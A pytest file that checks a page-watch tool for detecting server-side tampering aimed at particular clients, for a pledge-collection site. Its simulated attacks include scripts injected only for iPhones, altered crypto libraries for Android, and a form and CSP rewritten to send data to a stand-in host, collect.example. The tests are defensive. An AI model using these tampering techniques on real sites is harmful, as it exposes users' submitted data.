"""The page watch against a real server with a tampering layer in front (issue 19).

Each attack alone, as an intruder on the box would serve it to some clients only; each must be
reported naming the client the watch posed as and what differed, with the evidence saved. A
clean server over 20 rounds, in both languages, must give nothing at all, and a server that does
not answer must be "could not check" (exit 4), never an alarm.
"""

import contextlib
import os
import random
import re
import signal
import socket
import subprocess
import sys
import threading
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from urllib.parse import urlsplit

import pytest

from organizer import announce
from organizer.watch import service
from organizer.watch.check import run_round
from organizer.watch.http import Proxy
from organizer.watch.rounds import CLIENTS
from tests.conftest import backend_server
from tests.support.factories import PASSPHRASE, OrganizerHandle, make_campaign, make_coalition
from tests.support.tamper import Headers, header, rehash_csp, set_header, tampering_proxy
from tests.support.tamper import Proxy as TamperingProxy

CLEAN_ROUNDS = 20


class World:
    def __init__(self, server_url: str, proxy: TamperingProxy, admin: OrganizerHandle,
                 campaign_id: str) -> None:
        self.server_url, self.proxy, self.admin, self.campaign_id = server_url, proxy, admin, campaign_id


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    root = tmp_path_factory.mktemp("watch")
    with backend_server(root, "sqlite") as (server, _db, _clock), tampering_proxy(server.base_url) as proxy:
        admin = make_coalition(root, proxy.base_url)  # the keystore talks to the server through the layer
        campaign_id = make_campaign(admin, title_es="Salida", description_es="Salimos juntos.")
        body = announce.for_campaign(admin.session, campaign_id, "Meet at the gate.", "En la puerta.")
        announce.post(admin.session, campaign_id, body)
        yield World(server.base_url, proxy, admin, campaign_id)


def _page(path: str, request: Headers, headers: Headers) -> bool:
    return path.startswith("/p/") and header(headers, "Content-Type").startswith("text/html")


def iphone_extra_script(request: Headers, path: str, headers: Headers, body: bytes):  # type: ignore[no-untyped-def]
    if not (_page(path, request, headers) and "iPhone" in header(request, "User-Agent")):
        return None
    html = body.decode()
    new = html.replace("</body>", '<script src="/static/0000000000000000/js/x.js"></script>\n</body>')
    return headers, new.encode()


def spanish_script_byte(request: Headers, path: str, headers: Headers, body: bytes):  # type: ignore[no-untyped-def]
    if not (path.startswith("/static/") and path.endswith("/js/withdraw.js")
            and header(request, "Accept-Language").startswith("es")):
        return None
    return headers, body[:100] + bytes([body[100] ^ 1]) + body[101:]


def android_sealing_byte(request: Headers, path: str, headers: Headers, body: bytes):  # type: ignore[no-untyped-def]
    """The crypto library the page loads when a student starts the form, changed for Android."""
    if not (path.startswith("/static/") and path.endswith("/js/sealing.js")
            and "Android" in header(request, "User-Agent")):
        return None
    return headers, body[:200] + bytes([body[200] ^ 1]) + body[201:]


def csp_one_more_source(request: Headers, path: str, headers: Headers, body: bytes):  # type: ignore[no-untyped-def]
    if not _page(path, request, headers):
        return None
    csp = header(headers, "Content-Security-Policy").replace(
        "connect-src 'self'", "connect-src 'self' https://collect.example")
    return set_header(headers, "Content-Security-Policy", csp), body


def other_html_same_scripts(request: Headers, path: str, headers: Headers, body: bytes):  # type: ignore[no-untyped-def]
    if not _page(path, request, headers):
        return None
    html = body.decode()
    new = html.replace('<form id="pledge-form" hidden novalidate>',
                       '<form id="pledge-form" hidden novalidate action="https://collect.example/" '
                       'method="post">')
    return (headers, new.encode()) if new != html else None


def without_the_link_check(request: Headers, path: str, headers: Headers, body: bytes):  # type: ignore[no-untyped-def]
    if not _page(path, request, headers):
        return None
    html = body.decode()
    new = re.sub(r"new URLSearchParams\(location\.hash\.slice\(1\)\)\.get\(\w+\)", "null", html, count=1)
    return (rehash_csp(headers, html, new), new.encode()) if new != html else None


def withdraw_page_changed(request: Headers, path: str, headers: Headers, body: bytes):  # type: ignore[no-untyped-def]
    if not path.startswith("/withdraw"):
        return None
    html = body.decode()
    return headers, html.replace("<h1>", '<h1 data-x="1">', 1).encode()


def embedded_answer_differs(request: Headers, path: str, headers: Headers, body: bytes):  # type: ignore[no-untyped-def]
    if not _page(path, request, headers):
        return None
    html = body.decode()
    new = re.sub(r'(data-campaign=.*?"public_key": ")([A-Za-z0-9_-])',
                 lambda m: m.group(1) + ("A" if m.group(2) != "A" else "B"), html, count=1)
    return (headers, new.encode()) if new != html else None


def a_release_the_tool_does_not_know(request: Headers, path: str, headers: Headers, body: bytes):  # type: ignore[no-untyped-def]
    if not header(headers, "Content-Type").startswith("text/html"):
        return None
    html = body.decode()
    new = re.sub(r'content="Pledgebox [^"]+"', 'content="Pledgebox 9.9.9"', html, count=1)
    return (headers, new.encode()) if new != html else None


ONION = ("abcdefghijklmnopqrstuvwxyz234567" * 2)[:56] + ".onion"
OTHER_ONION = ("zyxwvutsrqponmlkjihgfedcba765432" * 2)[:56] + ".onion"


def with_onion_location(onion: str, where: str = ""):  # type: ignore[no-untyped-def]
    """What the compose file's onion profile adds (deploy/Caddyfile), or a hostile variant."""
    def rewrite(request: Headers, path: str, headers: Headers, body: bytes):  # type: ignore[no-untyped-def]
        return [*headers, ("Onion-Location", f"http://{onion}{where or path}")], body
    return rewrite


def iphone_sent_to_another_page(request: Headers, path: str, headers: Headers, body: bytes):  # type: ignore[no-untyped-def]
    if "iPhone" not in header(request, "User-Agent"):
        return None
    return with_onion_location(ONION, "/p/elsewhere")(request, path, headers, body)


def everyone(client: str) -> bool:
    return True


CASES = {  # attack, which clients it targets, words the report must hold
    "an extra script only for iPhones":
        (iphone_extra_script, lambda c: "iPhone" in c, "scripts where this release has"),
    "one changed byte in a static script only in Spanish":
        (spanish_script_byte, lambda c: c.endswith("Spanish"), "js/withdraw.js differs"),
    "one changed byte in the sealing library only for Android":
        (android_sealing_byte, lambda c: "Android" in c, "js/sealing.js differs"),
    "an Onion-Location that sends iPhones to another page":
        (iphone_sent_to_another_page, lambda c: "iPhone" in c, "points Tor Browser elsewhere"),
    "a CSP with one more source":
        (csp_one_more_source, everyone, "connect-src allows https://collect.example too"),
    "other HTML around the same scripts": (other_html_same_scripts, everyone, "HTML differs"),
    "a page without the #k= check": (without_the_link_check, everyone, "own script differs"),
    "the withdraw page changed": (withdraw_page_changed, everyone, "HTML differs"),
    "an embedded campaign answer that differs from the API's":
        (embedded_answer_differs, everyone, "embedded in the page differs"),
    "a page that names a release the tool does not know":
        (a_release_the_tool_does_not_know, everyone, "update the tool; if it persists"),
}


@pytest.mark.parametrize("case", list(CASES))
def test_each_tampering_is_reported_naming_the_client_and_what_differed(world: World, case: str,
                                                                       tmp_path: Path) -> None:
    rewrite, targeted, words = CASES[case]
    world.proxy.rewrite, world.proxy.applied = rewrite, 0
    try:
        result = run_round(service.plan(world.admin.session).target, rng=random.Random(7),
                           evidence_root=tmp_path)
    finally:
        world.proxy.rewrite = None
    assert world.proxy.applied > 0, "the attack no longer matches the page it attacks"
    assert result.findings, case
    reported = {f.client for f in result.findings}
    assert all(targeted(c) for c in reported), reported
    assert any(words in f.what for f in result.findings), [f.what for f in result.findings]
    assert all(f.campaign_id == world.campaign_id for f in result.findings)
    for f in result.findings:
        assert f.evidence is not None
        assert (f.evidence / "received.bin").exists()
    untouched = [c.name for c in CLIENTS if not targeted(c.name)]
    assert not set(untouched) & reported  # the clients not attacked saw the real page


def test_a_clean_server_over_20_rounds_in_both_languages_reports_nothing(world: World) -> None:
    target = replace(service.plan(world.admin.session).target, origin=world.server_url)
    for n in range(CLEAN_ROUNDS):
        result = run_round(target, rng=random.Random(n))
        assert result.findings == [], (n, result)
        assert result.unreachable == [], (n, result)
        assert result.visits == 10
        assert result.requests >= 60


def test_the_onion_profiles_header_is_no_alarm_but_another_onion_for_some_clients_is(world: World) -> None:
    target = service.plan(world.admin.session).target
    world.proxy.rewrite, world.proxy.applied = with_onion_location(ONION), 0
    try:
        for n in range(3):  # a deployment with the onion profile on (compose.yaml): nothing to report
            assert run_round(target, rng=random.Random(n)).findings == []

        def two_onions(request: Headers, path: str, headers: Headers, body: bytes):  # type: ignore[no-untyped-def]
            onion = OTHER_ONION if "Android" in header(request, "User-Agent") else ONION
            return with_onion_location(onion)(request, path, headers, body)

        world.proxy.rewrite = two_onions
        result = run_round(target, rng=random.Random(9))
    finally:
        world.proxy.rewrite = None
    assert world.proxy.applied > 0
    assert any("another onion address" in f.what for f in result.findings), result.findings


def _watch(world: World, tmp_path: Path) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "PLEDGEBOX_PASSPHRASE": PASSPHRASE, "XDG_DATA_HOME": str(tmp_path)}
    return subprocess.run([sys.executable, "-m", "organizer.cli", "--keystore",
                           str(world.admin.keystore), "watch", "--once"],
                          check=False, env=env, capture_output=True, text=True, timeout=300)


def test_the_cli_says_0_when_all_is_the_same_3_on_a_difference_and_4_when_it_could_not_check(
        world: World, tmp_path: Path) -> None:
    clean = _watch(world, tmp_path)
    assert clean.returncode == 0, clean.stderr
    assert clean.stdout == ""
    assert "cannot prove" in clean.stderr

    world.proxy.rewrite = iphone_extra_script
    try:
        alarm = _watch(world, tmp_path)
    finally:
        world.proxy.rewrite = None
    assert alarm.returncode == 3, alarm.stderr
    lines = alarm.stdout.splitlines()
    assert lines
    assert all(line.split("\t")[0] == world.campaign_id for line in lines)
    assert {line.split("\t")[1] for line in lines} == {"iPhone Safari, English", "iPhone Safari, Spanish",
                                                       "Instagram in-app (iPhone), English",
                                                       "Instagram in-app (iPhone), Spanish"}
    assert "stop sharing" in alarm.stderr
    saved = list((tmp_path / "pledgebox" / "watch").iterdir())
    assert saved
    assert all((d / "diff.txt").exists() for d in saved)
    assert "js/x.js" in (saved[0] / "diff.txt").read_text()
    assert PASSPHRASE not in "".join(p.read_text(errors="replace") for d in saved for p in d.iterdir())

    world.proxy.down = True
    try:
        down = _watch(world, tmp_path)
    finally:
        world.proxy.down = False
    assert down.returncode == 4, down.stderr
    assert down.stdout == ""
    assert "not an alarm" in down.stderr


class Socks5:
    """A minimal SOCKS5 proxy (RFC 1928/1929) on loopback, recording each login and target."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.url = f"socks5h://127.0.0.1:{self.sock.getsockname()[1]}"
        self.logins: list[str] = []
        self.targets: list[tuple[str, int]] = []
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            threading.Thread(target=self._client, args=(conn,), daemon=True).start()

    def _client(self, conn: socket.socket) -> None:
        def take(n: int) -> bytes:
            data = b""
            while len(data) < n:
                data += conn.recv(n - len(data))
            return data

        _, count = take(2)
        methods = take(count)
        assert 2 in methods
        conn.sendall(b"\x05\x02")
        _, ulen = take(2)
        user = take(ulen).decode()
        take(take(1)[0])
        self.logins.append(user)
        conn.sendall(b"\x01\x00")
        take(3)
        assert take(1) == b"\x03"  # a host name: the proxy resolves it (socks5h)
        host = take(take(1)[0]).decode()
        port = int.from_bytes(take(2), "big")
        self.targets.append((host, port))
        upstream = socket.create_connection((host, port))
        conn.sendall(b"\x05\x00\x00\x01" + bytes(6))
        for a, b in ((conn, upstream), (upstream, conn)):
            threading.Thread(target=_pipe, args=(a, b), daemon=True).start()


def _pipe(a: socket.socket, b: socket.socket) -> None:
    try:
        while data := a.recv(65536):
            b.sendall(data)
    except OSError:
        pass
    finally:
        for s in (a, b):
            with contextlib.suppress(OSError):
                s.shutdown(socket.SHUT_RDWR)


def test_through_a_socks5_proxy_each_round_has_its_own_login_and_nothing_resolves_locally(
        world: World) -> None:
    proxy = Socks5()
    target = replace(service.plan(world.admin.session).target, origin=world.server_url)
    first = run_round(target, proxy=Proxy.parse(proxy.url), rng=random.Random(1))
    logins_first = set(proxy.logins)
    second = run_round(target, proxy=Proxy.parse(proxy.url), rng=random.Random(2))
    assert first.findings == []
    assert second.findings == []
    assert first.unreachable == []
    assert len(logins_first) == 1  # one vantage point (one Tor circuit) per round
    assert len(set(proxy.logins) - logins_first) == 1
    host, port = urlsplit(world.server_url).hostname, urlsplit(world.server_url).port
    assert set(proxy.targets) == {(host, port)}
    proxy.sock.close()


# Starts the CLI as a shell's background job starts it: SIGINT ignored, which exec keeps.
AS_A_BACKGROUND_JOB = ("import os, signal, sys; signal.signal(signal.SIGINT, signal.SIG_IGN); "
                       "os.execv(sys.executable, [sys.executable, '-m', 'organizer.cli', *sys.argv[1:]])")


def test_without_once_it_keeps_watching_until_interrupted(world: World, tmp_path: Path) -> None:
    """Started as a shell's background job is (SIGINT ignored, inherited), Ctrl-C still ends it:
    a full test run started in the background once hung here for good."""
    env = {**os.environ, "PLEDGEBOX_PASSPHRASE": PASSPHRASE, "XDG_DATA_HOME": str(tmp_path)}
    proc = subprocess.Popen([sys.executable, "-c", AS_A_BACKGROUND_JOB, "--keystore",
                             str(world.admin.keystore), "watch", "--spread", "0"], env=env,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        assert proc.stderr is not None
        first = proc.stderr.readline()  # the first round comes at once
        assert "every page, header and file was what this release serves" in first
        assert proc.poll() is None  # and it waits for the next one
    finally:
        proc.send_signal(signal.SIGINT)
        out, _ = proc.communicate(timeout=60)
    assert proc.returncode == 1
    assert out == ""
